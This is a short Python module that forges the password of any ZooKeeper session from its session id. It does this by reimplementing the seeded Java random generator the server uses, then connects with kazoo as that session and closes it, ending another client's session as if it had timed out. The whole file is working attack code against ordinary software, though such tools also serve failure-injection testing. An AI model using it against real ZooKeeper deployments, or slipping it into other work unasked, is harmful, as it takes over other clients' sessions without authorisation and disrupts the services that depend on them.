"""Ending somebody else's ZooKeeper session, as if it had timed out.

Any client that presents the id and password of a session may close it. ZooKeeper derives the
password from the id: 16 bytes of a java.util.Random seeded with the id and a constant
(org.apache.zookeeper.server.ZooKeeperServer.generatePasswd).
"""

from __future__ import annotations

import struct

from kazoo.client import KazooClient

_SECRET = 0xB3415C00
_MULTIPLIER = 0x5DEECE66D
_MASK = (1 << 48) - 1


def password(session_id: int) -> bytes:
    seed = ((session_id ^ _SECRET) ^ _MULTIPLIER) & _MASK
    found = b""
    for _ in range(4):
        seed = (seed * _MULTIPLIER + 0xB) & _MASK
        found += struct.pack("<I", (seed >> 16) & 0xFFFFFFFF)
    return found


def expire(connect: str, session_id: int) -> None:
    """Close the session; its owner learns of it when it next hears from ZooKeeper."""
    hosts = connect.partition("/")[0]
    client = KazooClient(hosts, timeout=20, client_id=(session_id, password(session_id)))
    client.start(20)
    assert client.client_id is not None and client.client_id[0] == session_id, "a new session"
    client.stop()
    client.close()
